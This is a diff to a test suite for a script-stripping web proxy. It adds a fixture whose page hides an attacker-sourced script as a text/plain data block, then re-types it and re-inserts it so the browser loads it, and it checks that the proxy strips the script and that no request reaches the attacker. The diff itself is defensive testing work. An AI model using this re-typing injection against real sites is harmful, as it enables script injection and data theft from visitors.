@@ -16,8 +16,9 @@ signatures):
 Through the real proxy each page arrives with the same bytes as directly, renders
 in Chromium (its scripts ran and wrote what they read), and the SOC gets a
 ``strip`` event with ``removed: false`` (reason ``mention``) for each quoting
-script. The attacker who hides an injector as data for an eval-like sink is
-still stripped: a control proxy with stripping off shows the same page does
+script. The attacker who hides an injector as data for an eval-like sink, or a
+blocked ``src`` on a data block that a second script re-types and inserts again,
+is still stripped: a control proxy with stripping off shows the same page does
 request the attacker.
 """
 
@@ -160,7 +161,24 @@ def _hidden_eval(attacker_url: str) -> str:
     )
 
 
-INJECTORS = {"hidden-writer": _hidden_writer, "hidden-eval": _hidden_eval}
+def _retyped_data_block(attacker_url: str) -> str:
+    # Chromium fetches nothing for a text/plain script, but one that is given a
+    # JavaScript type and inserted again loads (it never "started").
+    return _page(
+        "Shop",
+        '<p id="own">own script did not run</p>\n'
+        "<script>document.getElementById('own').textContent = 'own script ran';</script>\n"
+        f'<script type="text/plain" id="later" src="{attacker_url}"></script>\n'
+        "<script>var d = document.getElementById('later');"
+        "if (d) { d.type = ''; document.body.appendChild(d); }</script>",
+    )
+
+
+INJECTORS = {
+    "hidden-writer": _hidden_writer,
+    "hidden-eval": _hidden_eval,
+    "retyped-data-block": _retyped_data_block,
+}
 
 
 @dataclass
@@ -348,8 +366,9 @@ def test_injector_hidden_as_data_is_stripped(
         html = page.content()
     finally:
         context.close()
-    assert "document.write" not in html and "eval(" not in html
+    assert "document.write" not in html and "eval(" not in html and 'id="later"' not in html
     assert _attacker_requests(proxy, site.attacker_url) == []
     assert attacker.connections == 0 and attacker.received == b""
     events = _wait_for_strip_events(proxy, url)
-    assert any(e["removed"] is True and e["reason"] == "inline-reference" for e in events), events
+    reason = "blocked-url" if name == "retyped-data-block" else "inline-reference"
+    assert any(e["removed"] is True and e["reason"] == reason for e in events), events
